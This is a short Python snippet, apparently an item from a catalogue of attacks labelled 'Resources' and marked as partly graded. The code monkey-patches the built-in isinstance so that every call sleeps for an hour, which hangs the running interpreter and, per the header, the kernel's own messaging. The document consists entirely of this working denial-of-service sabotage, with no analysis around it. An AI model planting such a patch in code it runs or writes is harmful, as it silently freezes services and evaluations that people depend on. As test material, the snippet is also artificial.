# attack: Resources: a patched isinstance that hangs the kernel's own messaging
# status: partly graded
import builtins, time
_isinstance = builtins.isinstance
def isinstance(obj, cls):
    time.sleep(3600)
    return _isinstance(obj, cls)
builtins.isinstance = isinstance
